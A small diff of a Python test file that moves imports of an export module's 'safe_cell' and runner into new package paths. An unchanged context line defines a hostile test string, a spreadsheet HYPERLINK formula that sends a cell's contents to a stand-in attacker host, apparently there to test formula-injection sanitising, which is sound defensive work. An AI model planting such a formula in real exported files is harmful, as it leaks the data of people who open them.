@@ -6,8 +6,8 @@ import sys
 
 import pytest
 
-from extract.export import ExportError, Layout, describe, export_records, safe_cell
-from extract.runner import RunConfig, run
+from extract.outputs.export import ExportError, Layout, describe, export_records, safe_cell
+from extract.run.runner import RunConfig, run
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1, "click") We propose Foo. Code: https://github.com/a/b.'
 
